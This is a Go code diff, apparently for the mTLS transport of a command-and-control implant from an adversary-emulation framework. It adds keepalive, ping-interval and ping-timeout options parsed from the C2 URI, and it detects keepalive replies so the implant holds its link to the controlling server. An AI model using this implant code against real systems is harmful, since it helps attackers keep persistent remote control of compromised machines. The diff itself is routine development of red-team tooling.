@@ -28,6 +28,8 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"net"
+	"net/url"
 	"time"
 
 	// {{if .Config.Debug}}
@@ -45,6 +47,12 @@ var (
 	// PingInterval - Amount of time between in-band "pings"
 	PingInterval = 2 * time.Minute
 
+	// PingTimeout - Amount of time to wait for the server to reply to a ping
+	PingTimeout = time.Minute
+
+	// KeepAlive - Amount of time between tcp keepalive probes
+	KeepAlive = 30 * time.Second
+
 	// caCertPEM - PEM encoded CA certificate
 	caCertPEM = `{{.Config.MtlsCACert}}`
 
@@ -52,6 +60,35 @@ var (
 	certPEM = `{{.Config.MtlsCert}}`
 )
 
+// MTLSOptions - c2 specific options
+type MTLSOptions struct {
+	KeepAlive    time.Duration
+	PingInterval time.Duration
+	PingTimeout  time.Duration
+}
+
+// ParseMTLSOptions - Parse c2 specific options, a negative keepalive disables
+// tcp keepalives and a zero ping timeout disables dead connection detection
+func ParseMTLSOptions(c2URI *url.URL) *MTLSOptions {
+	keepAlive, err := time.ParseDuration(c2URI.Query().Get("keepalive"))
+	if err != nil {
+		keepAlive = KeepAlive
+	}
+	pingInterval, err := time.ParseDuration(c2URI.Query().Get("ping-interval"))
+	if err != nil || pingInterval <= 0 {
+		pingInterval = PingInterval
+	}
+	pingTimeout, err := time.ParseDuration(c2URI.Query().Get("ping-timeout"))
+	if err != nil || pingTimeout < 0 {
+		pingTimeout = PingTimeout
+	}
+	return &MTLSOptions{
+		KeepAlive:    keepAlive,
+		PingInterval: pingInterval,
+		PingTimeout:  pingTimeout,
+	}
+}
+
 // WriteEnvelope - Writes a message to the TLS socket using length prefix framing
 // which is a fancy way of saying we write the length of the message then the message
 // e.g. [uint32 length|message] so the receiver can delimit messages properly
@@ -77,7 +114,7 @@ func WritePing(connection *tls.Conn) error {
 	// {{end}}
 
 	// We don't need a real nonce here, we just need to write to the socket
-	pingBuf, _ := proto.Marshal(&pb.Ping{Nonce: 31337})
+	pingBuf, _ := proto.Marshal(&pb.Ping{Nonce: 31337, Keepalive: true})
 	envelope := pb.Envelope{
 		Type: pb.MsgPing,
 		Data: pingBuf,
@@ -131,10 +168,17 @@ func ReadEnvelope(connection *tls.Conn) (*pb.Envelope, error) {
 	return envelope, nil
 }
 
+// IsKeepaliveReply - Is the envelope the server's reply to a keepalive ping,
+// requests from the server always have an envelope id
+func IsKeepaliveReply(envelope *pb.Envelope) bool {
+	return envelope.Type == pb.MsgPing && envelope.ID == 0
+}
+
 // MtlsConnect - Get a TLS connection or die trying
-func MtlsConnect(address string, port uint16) (*tls.Conn, error) {
+func MtlsConnect(address string, port uint16, keepAlive time.Duration) (*tls.Conn, error) {
 	tlsConfig := getTLSConfig()
-	connection, err := tls.Dial("tcp", fmt.Sprintf("%s:%d", address, port), tlsConfig)
+	dialer := &net.Dialer{KeepAlive: keepAlive}
+	connection, err := tls.DialWithDialer(dialer, "tcp", fmt.Sprintf("%s:%d", address, port), tlsConfig)
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Printf("Unable to connect: %v", err)